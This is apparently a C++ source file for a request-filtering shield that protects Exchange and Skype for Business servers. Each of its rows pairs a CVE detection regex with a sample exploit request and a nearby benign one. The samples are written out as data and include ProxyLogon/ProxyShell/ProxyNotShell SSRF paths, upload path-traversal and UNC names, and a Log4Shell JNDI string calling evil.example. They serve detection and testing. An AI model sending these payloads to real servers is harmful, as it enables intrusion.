#include "policy/shield.h"

#include <algorithm>

namespace lync::policy {

namespace {

// The builds of the CVE records (github.com/CVEProject/cvelistV5, "lessThan"); of 2021-26855 those
// of learn.microsoft.com/exchange/new-features/build-numbers-and-release-dates, March 2021.
constexpr std::string_view of_november_2022 =
    "15.0.1497.44 15.1.2375.37 15.1.2507.16 15.2.986.36 15.2.1118.20";
constexpr std::string_view of_september_2026 = "6.0.9319.885 7.0.2046.569 7.0.2046.879";

constexpr ShieldPlaces in_names = in_query | in_file | in_form;

// A row needs a literal (pattern.h), an example of what it stops, and of the ordinary request that
// is nearest to it: t/unit/shield_test.cpp and t/38-shield.t replay both.
constexpr ShieldRow rows[] = {
    {"CVE-2021-26855", "ProxyLogon: a cookie names the back end", "exchange", in_cookie,
     R"(^x-(?:anon|be)resource)",
     "Cookie: X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3",
     "Cookie: ClientId=1D8A; X-BackEndCookie=S-1-5-21-1=u56Lnp2ejJqBnc_MyMnGzJ7SycjKzQ",
     "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2021-26855",
     "15.0.1497.12 15.1.2106.13 15.1.2176.9 15.2.721.13 15.2.792.10"},
    {"CVE-2021-34473", "ProxyShell: the address is a path", "exchange", in_url,
     R"(autodiscover\.json\?.*(?:@[^=&]*/|email=[^&]*/))",
     "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/"
     "autodiscover.json%3F@evil.example",
     "/autodiscover/autodiscover.json?Email=ken%40contoso.com&Protocol=ActiveSync",
     "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2021-34473",
     "15.0.1497.15 15.1.2176.12 15.1.2242.8 15.2.792.13 15.2.858.10"},
    {"CVE-2022-41040", "ProxyNotShell: autodiscover leads to PowerShell", "exchange", in_url,
     R"(autodiscover.*(?:powershell|@[^?&=@]*/(?:mapi/|autodiscover\.json)))",
     "/autodiscover/admin@localhost/powershell/autodiscover.json?x=a",
     "/autodiscover/autodiscover.json?Email=ken%40contoso.com&Protocol=AutodiscoverV1",
     "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2022-41040", of_november_2022},
    {"CVE-2022-41080", "OWASSRF: Outlook on the web leads to PowerShell", "exchange", in_url,
     R"(/(?:owa|ecp)/[^?]*@[^?]*/powershell)", "/owa/ken@contoso.com/powershell?x=a",
     "/owa/ken@contoso.com/?path=/mail/search",
     "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2022-41080", of_november_2022},
    {"CVE-2023-41763", "a meeting URL that isn't a meeting's: meeting_url_guard", "lync",
     in_meeturl, "", "/lwa/WebPages/LwaClient.aspx?meeturl=aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYS8x",
     "/lwa/WebPages/LwaClient.aspx?meeturl=aHR0cHM6Ly9tZWV0LmNvbnRvc28uY29tL2EvMQ!!",
     "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2023-41763",
     "6.0.9319.869 7.0.2046.530"},
    {"CVE-2026-42897", "a script in a message: Outlook on the web's pages get a policy", "owa",
     in_answer, "", "/owa/", "/owa/prem/15.2.1118.7/scripts/boot.js",
     "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2026-42897",
     "15.1.2507.69 15.2.1544.41 15.2.1748.46 15.2.2562.43"},
    {"CVE-2026-66302-path", "the name of an upload leaves its directory", "uploads", in_names,
     R"(\.\./)", R"(/datacollabweb/Ext/Handler/upload.ashx?name=..\..\x.aspx)",
     "/datacollabweb/Ext/Handler/upload.ashx?name=Q3..Q4.pptx&id=9f2c4b",
     "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2026-66302", of_september_2026},
    {"CVE-2026-66302-stream", "the name of an upload is a stream", "uploads", in_names, R"(:\$)",
     "/datacollabweb/Ext/Handler/upload.ashx?name=x.aspx:a:$DATA",
     "/datacollabweb/Ext/Handler/upload.ashx?name=a::b%20($DATA).pptx",
     "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2026-66302", of_september_2026},
    {"CVE-2026-66302-unc", "the name of an upload is on another server", "uploads", in_names,
     "=//[^/&=+]*/", R"(/datacollabweb/Ext/Handler/upload.ashx?name=\\evil.example\share\x)",
     R"(/datacollabweb/Ext/Handler/upload.ashx?name=a\b.pptx&from=https://x)",
     "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2026-66302", of_september_2026},
    {"CVE-2026-66302-drive", "the name of an upload is on a drive of the server's", "uploads",
     in_names, "=[a-z]:/", R"(/datacollabweb/Ext/Handler/upload.ashx?name=C:\inetpub\x.aspx)",
     "/datacollabweb/Ext/Handler/upload.ashx?name=C_1:2.pptx&from=https://x",
     "https://msrc.microsoft.com/update-guide/vulnerability/CVE-2026-66302", of_september_2026},
    {"CVE-2021-44228", "Log4Shell: for whatever reads the logs", "all", in_url | in_header,
     R"(\$\{[^}]{0,40}(?:jndi|\$\{|(?:lower|upper|env|sys|java|date|ctx|main|base64):))",
     "User-Agent: ${${lower:j}ndi:ldap://evil.example/a}",
     "User-Agent: Mozilla/5.0 (${version}; $env:x)",
     "https://nvd.nist.gov/vuln/detail/CVE-2021-44228"},
};

/// A number for an update, within which the builds only count up: "15.1.2507". Skype for Business
/// Server 2019 and its Subscription Edition are both 7.0.2046.
std::uint64_t update_of(Build build) noexcept {
    const bool is_se = build >> 16 == build_of("7.0.2046.0") >> 16 && (build & 0xffff) >= 700;
    return (build >> 16) * 2 + (is_se ? 1 : 0);
}

/// The build that a server with this one has to be updated to; 0: it is later, or another
/// product's.
Build fix_for(Build build, std::string_view fixed) noexcept {
    Build found = 0;
    while (!fixed.empty()) {
        const std::size_t end = std::min(fixed.find(' '), fixed.size());
        const Build fix = build_of(fixed.substr(0, end));
        fixed.remove_prefix(std::min(end + 1, fixed.size()));
        if (fix >> 32 == build >> 32 && (found == 0 || update_of(fix) <= update_of(build))) {
            found = fix;
        }
    }
    return build < found ? found : 0;
}

} // namespace

std::vector<MissingFix> missing_fixes(Build build) {
    std::vector<MissingFix> missing;
    for (const ShieldRow& row : rows) {
        const Build fix = fix_for(build, row.fixed);
        const bool is_known =
            std::any_of(missing.begin(), missing.end(),
                        [&](const MissingFix& other) { return other.cve == cve_of(row.name); });
        if (build != 0 && fix != 0 && !is_known) {
            missing.push_back({cve_of(row.name), fix});
        }
    }
    std::stable_sort(missing.begin(), missing.end(),
                     [](const MissingFix& a, const MissingFix& b) { return a.build < b.build; });
    return missing;
}

std::string missing_fixes_words(const std::vector<MissingFix>& fixes) {
    std::string words;
    Build last = 0;
    for (const auto& [cve, build] : fixes) {
        words += build == last ? ", "
                               : (last == 0 ? "older than " : "; older than ") + build_text(build) +
                                     ", which fixes ";
        words += cve;
        last = build;
    }
    return words;
}

std::span<const ShieldRow> shield_rows() noexcept {
    return rows;
}

} // namespace lync::policy
